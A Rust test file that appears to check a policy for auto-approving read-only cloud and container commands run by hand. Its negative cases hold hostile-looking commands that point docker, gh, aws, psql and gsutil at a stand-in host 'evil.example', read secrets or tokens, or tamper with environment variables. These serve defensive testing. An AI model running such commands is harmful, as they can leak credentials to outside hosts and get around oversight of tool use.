use action::{Certainty, Effects, Tier, Verb};

use super::*;
use crate::facts::Facts;
use crate::place::Place;
use crate::shell::{read, read_at};
use crate::shell::tests::facts;

fn by_hand(text: &str) -> Effects {
    read(text, &Facts { by_hand: true, ..facts() }, Place::Host)
}

/// Whether it may be taken for a look without a signature: as policy asks it.
fn goes_on(effects: &Effects) -> bool {
    effects.iter().all(|e| {
        let look = e.verb == Verb::Read && e.certainty == Certainty::Exact && !e.data_bearing && e.resource.kind != "secret";
        e.certainty == Certainty::Exact && (e.tier <= Tier::Host || look)
    })
}

#[test]
fn the_list_is_sorted_and_each_row_is_understood_and_lets_its_own_words_go_on() {
    let all: Vec<_> = rows(TEXT).collect();
    assert_eq!(all.len(), ROWS.len(), "a row was not understood");
    let words = |row: &Row| row.words.join(" ");
    assert!(ROWS.windows(2).all(|two| words(&two[0]) < words(&two[1])), "sorted, each once");
    let commands = ROWS.iter().flat_map(|row| {
        let kind = row.kinds.first().map(|kind| format!(" {kind}")).unwrap_or_default();
        let command = words(row) + &kind;
        let flags = row.flags.iter().map(|flag| format!("{command} {flag}"));
        let valued = row.valued.iter().map(|(option, only)| format!("{command} {option} {}", only.as_ref().map_or("1", |values| values[0])));
        flags.chain(valued).chain([command.clone()]).collect::<Vec<_>>()
    });
    let unsure: Vec<String> = commands.filter(|command| !goes_on(&by_hand(command))).collect();
    assert!(unsure.is_empty(), "{unsure:#?}");
}

#[test]
fn what_the_list_names_goes_on_with_its_options_wherever_they_stand() {
    for command in [
        "kubectl -n staging get pods -o wide",
        "kubectl get deploy/web",
        "kubectl get pods,svc -A --sort-by=.status.startTime",
        "docker ps -aq --format '{{.Names}}'",
        "docker logs web --tail 100",
        "gh pr view 12 --json title,body",
        "gh search code 'fn main'",
        "aws ec2 describe-instances --query 'Reservations[].Instances[].InstanceId' --output text",
        "docker ps && kubectl get nodes",
    ] {
        assert!(goes_on(&by_hand(command)), "{command}: {:#?}", by_hand(command).lines());
    }
}

#[test]
fn what_it_does_not_name_is_not_sure() {
    for command in [
        // Other options, other values, other kinds.
        "kubectl get pods -o yaml", "kubectl get pods -o json", "kubectl get pods -v=9", "kubectl get pods -v 9", "kubectl get cm", "kubectl get pods,secrets", "kubectl get secret/x -o name", "kubectl get pods cm/x", "kubectl get pods/a cm/b",
        "kubectl get -k .", "kubectl get -f x.yaml", "kubectl get", "kubectl get pods --kubeconfig x", "kubectl get pods --cache-dir=x", "kubectl wait secret/x --for=create",
        "docker -H tcp://evil.example ps", "docker --context x ps", "docker top web eww", "docker inspect web", "docker compose ps", "docker manifest inspect evil.example/x",
        "gh pr list -R evil.example/a/b", "gh pr list -R ana/other", "gh pr list --json number --jq env", "gh pr view https://evil.example/a/b/pull/1", "gh api user", "gh auth status -t",
        "glab mr list -R git@evil.example:a/b", "aws ec2 describe-instances --filters https://evil.example/x", "aws ec2 describe-instances --query file://x", "aws s3 ls s3://name",
        "aws ec2 describe-instances --endpoint-url https://evil.example", "aws ec2 describe-instances --debug", "gsutil -o Credentials:gs_json_host=evil.example ls",
        "gcloud compute instances list --format json", "heroku releases:info v10", "az functionapp keys list", "vercel -Q ./cfg whoami", "doctl -c ./x.yaml account get",
        "argocd app list --config ./x", "pulumi whoami", "wrangler whoami", "supabase projects list --profile ./x.yaml", "psql -l -h evil.example", "rclone ls :sftp:x",
        // The same words, but something before them, around them or in them.
        "KUBERC=./x kubectl get pods", "GL_HOST=evil.example glab mr list", "export X=1; docker ps", "X=1 docker ps", "unset HOME; kubectl get pods", "env -u HOME kubectl get pods", "env -i kubectl get pods", "HOME=. kubectl get pods",
        "PWD=x; docker ps", "IFS=x; docker ps", "cd sub && gh pr list", "docker ps -f \"$X\"", "docker ps $X",
        "echo x > compose.yaml; docker ps", "./x; docker ps", "docker ps -- x", "docker ps -n", "docker ps -n -a", "docker ps --last=../x",
    ] {
        assert!(!goes_on(&by_hand(command)), "{command}: {:#?}", by_hand(command).lines());
    }
    let elsewhere = read_at("docker ps", "sub", &Facts { by_hand: true, ..facts() }, Place::Host);
    assert!(!goes_on(&elsewhere), "{:#?}", elsewhere.lines());
}

#[test]
fn only_by_hand_is_it_asked_for() {
    let sure = |effects: Effects| effects.iter().any(|e| e.tier > Tier::Host && e.verb == Verb::Read && e.certainty == Certainty::Exact);
    assert!(sure(read("kubectl get cm -n shop", &facts(), Place::Host)));
    assert!(!sure(by_hand("kubectl get cm -n shop")));
}
